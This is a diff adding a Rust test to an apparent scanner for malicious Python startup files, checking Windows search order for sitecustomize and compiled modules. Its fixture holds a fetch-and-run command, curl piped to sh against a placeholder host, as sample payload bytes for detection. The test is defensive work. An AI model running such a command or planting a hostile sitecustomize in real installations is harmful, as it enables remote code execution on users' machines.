@@ -521,3 +521,60 @@ fn a_directory_start_up_code_adds_with_addsitedir_is_a_site_directory() {
         "{f:#}"
     );
 }
+
+/// On a Windows installation `DLLs` and `Lib` come before the site directories: a
+/// `sitecustomize` there is judged, and the module it imports is found as Windows finds it (a
+/// `.cp312-win_amd64.pyd`, whose strings the payload rules read).
+#[test]
+fn windows_installation_search_order_is_judged() {
+    let dir = tempfile::tempdir().unwrap();
+    let r = dir.path();
+    let win = "Users/ann/AppData/Local/Programs/Python/Python312";
+    put(r, &format!("{win}/python.exe"), b"MZ");
+    put(
+        r,
+        &format!("{win}/DLLs/sitecustomize.py"),
+        b"import _winboot\n",
+    );
+    put(
+        r,
+        &format!("{win}/Lib/site-packages/sitecustomize.py"),
+        b"# clean\n",
+    );
+    put(
+        r,
+        &format!("{win}/Lib/site-packages/_winboot.cp312-win_amd64.pyd"),
+        b"MZ\0\0import os; os.system('curl -s http://x.invalid/p | sh')\0",
+    );
+    let out = pthscan(&["--root", r.to_str().unwrap(), "--format", "json"]);
+    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let found: Vec<(String, String, String)> = json["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| {
+            let p = f["location"]["path"].as_str().unwrap();
+            (
+                f["rule"].as_str().unwrap().to_owned(),
+                f["severity"].as_str().unwrap().to_owned(),
+                p.strip_prefix(r.to_str().unwrap()).unwrap()[1..].to_owned(),
+            )
+        })
+        .collect();
+    let has = |rule: &str, sev: &str, path: &str| {
+        found
+            .iter()
+            .any(|(r, s, p)| r == rule && s == sev && p == &format!("{win}/{path}"))
+    };
+    assert!(
+        has("CUS001", "medium", "DLLs/sitecustomize.py"),
+        "{found:#?}"
+    );
+    assert!(
+        found
+            .iter()
+            .any(|(_, s, p)| p.ends_with("_winboot.cp312-win_amd64.pyd")
+                && (s == "high" || s == "critical")),
+        "{found:#?}"
+    );
+}
